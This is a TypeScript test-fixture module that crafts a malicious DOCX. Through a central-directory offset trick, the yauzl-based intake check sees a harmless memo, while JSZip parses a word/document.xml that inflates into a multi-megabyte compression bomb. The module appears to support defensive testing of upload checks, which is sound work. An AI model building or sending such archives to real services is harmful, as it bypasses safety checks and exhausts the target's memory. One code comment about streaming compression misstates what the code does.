// ZIP containers that two readers see differently (issue 22): the central-directory-offset trick
// (yauzl reads the directory at its written offset, JSZip at the end record minus its size, so one
// file carries a harmless Word document for the check and a compression bomb for the parser), and
// the shapes of the same family: bytes before the first entry, overlapping entries, duplicate
// names, a local header that disagrees with its central record.
import { crc32, deflateRawSync } from 'node:zlib';
import { docx, zip, type ZipEntry } from './zip.ts';

type Built = { name: string; data: Buffer; method: 0 | 8; crc: number; size: number };

const prepare = (entry: ZipEntry, method: 0 | 8 = 8): Built => ({
  name: entry.name,
  data: method === 8 ? deflateRawSync(entry.data, { level: 9 }) : entry.data,
  method,
  crc: crc32(entry.data),
  size: entry.data.length,
});

function localHeader(e: Built): Buffer {
  const name = Buffer.from(e.name);
  const h = Buffer.alloc(30);
  h.writeUInt32LE(0x04034b50, 0);
  h.writeUInt16LE(20, 4);
  h.writeUInt16LE(e.method, 8);
  h.writeUInt32LE(e.crc, 14);
  h.writeUInt32LE(e.data.length, 18);
  h.writeUInt32LE(e.size, 22);
  h.writeUInt16LE(name.length, 26);
  return Buffer.concat([h, name]);
}

function centralRecord(e: Built, offset: number): Buffer {
  const name = Buffer.from(e.name);
  const c = Buffer.alloc(46);
  c.writeUInt32LE(0x02014b50, 0);
  c.writeUInt16LE(20, 4);
  c.writeUInt16LE(20, 6);
  c.writeUInt16LE(e.method, 10);
  c.writeUInt32LE(e.crc, 16);
  c.writeUInt32LE(e.data.length, 20);
  c.writeUInt32LE(e.size, 24);
  c.writeUInt16LE(name.length, 28);
  c.writeUInt32LE(offset, 42);
  return Buffer.concat([c, name]);
}

function endRecord(entries: number, cdSize: number, cdOffset: number): Buffer {
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries, 8);
  end.writeUInt16LE(entries, 10);
  end.writeUInt32LE(cdSize, 12);
  end.writeUInt32LE(cdOffset, 16);
  return end;
}

const xml = (s: string) => Buffer.from(`<?xml version="1.0" encoding="UTF-8" standalone="yes"?>${s}`);
const CONTENT_TYPES = xml(
  '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
);
const RELS = xml(
  '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>',
);
const documentXml = (text: string) =>
  xml(
    `<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>${text}</w:t></w:r></w:p></w:body></w:document>`,
  );

/** word/document.xml holding one paragraph of `megabytes` MB of the letter a, deflated (~1000:1). */
export function bombEntry(megabytes: number): Built {
  const head = Buffer.from(
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>',
  );
  const tail = Buffer.from('</w:t></w:r></w:p></w:body></w:document>');
  const block = Buffer.alloc(1 << 20, 'a');
  const parts = [head, ...Array.from({ length: megabytes }, () => block), tail];
  let crc = 0;
  for (const part of parts) crc = crc32(part, crc);
  // One deflate stream over the whole text, without holding it: zlib's streaming API, synchronously.
  const data = deflateRawSync(Buffer.concat(parts), { level: 9 });
  return { name: 'word/document.xml', data, method: 8, crc, size: parts.reduce((n, p) => n + p.length, 0) };
}

/**
 * The file: a harmless DOCX (what yauzl, the intake check, reads) followed by a second set
 * of entries and a directory of the same size (what JSZip reads, its offsets written relative to
 * the shift JSZip applies) whose word/document.xml inflates to `bombMb` MB.
 */
export function crossedDirectoriesDocx(bombMb: number): Buffer {
  // Padding in the harmless part makes room for the second set's offsets (they must not go negative).
  const harmless = [
    prepare({ name: '[Content_Types].xml', data: CONTENT_TYPES }),
    prepare({ name: '_rels/.rels', data: RELS }),
    prepare({ name: 'word/document.xml', data: documentXml('A harmless memo.') }),
  ];
  const bomb = bombEntry(bombMb);
  const hostile = [
    prepare({ name: '[Content_Types].xml', data: CONTENT_TYPES }),
    prepare({ name: '_rels/.rels', data: RELS }),
    bomb,
    prepare({ name: 'docProps/padding.bin', data: Buffer.alloc(1) }, 0),
  ];
  harmless.push(prepare({ name: 'docProps/padding.bin', data: Buffer.alloc(bomb.data.length + 4096, 7) }, 0));
  const layout = (entries: Built[], start: number) => {
    const locals: Buffer[] = [];
    const offsets: number[] = [];
    let at = start;
    for (const e of entries) {
      const header = localHeader(e);
      offsets.push(at);
      locals.push(header, e.data);
      at += header.length + e.data.length;
    }
    return { locals: Buffer.concat(locals), offsets, end: at };
  };
  const a = layout(harmless, 0);
  const cdA = Buffer.concat(harmless.map((e, i) => centralRecord(e, a.offsets[i]!)));
  const b = layout(hostile, a.end + cdA.length);
  // JSZip reads the cdSize bytes that end at the end record (B's directory, the same size as A's:
  // the same names) and shifts every offset by extra = eocd - (cdOffset + cdSize): B's offsets are
  // written minus it.
  const extra = b.end - a.end;
  const cdB = Buffer.concat(hostile.map((e, i) => centralRecord(e, b.offsets[i]! - extra)));
  if (cdB.length !== cdA.length) throw new Error(`directories differ in size: ${cdA.length} vs ${cdB.length}`);
  return Buffer.concat([a.locals, cdA, b.locals, cdB, endRecord(harmless.length, cdA.length, a.end)]);
}

/** The central directory's records and the end record's fields, to rewrite offsets in place. */
export function directory(zip: Buffer) {
  const eocd = zip.lastIndexOf(Buffer.from([0x50, 0x4b, 0x05, 0x06]));
  const count = zip.readUInt16LE(eocd + 10);
  const records: number[] = [];
  for (let at = zip.readUInt32LE(eocd + 16), n = 0; n < count; n++) {
    records.push(at);
    at += 46 + zip.readUInt16LE(at + 28) + zip.readUInt16LE(at + 30) + zip.readUInt16LE(at + 32);
  }
  return { eocd, records };
}
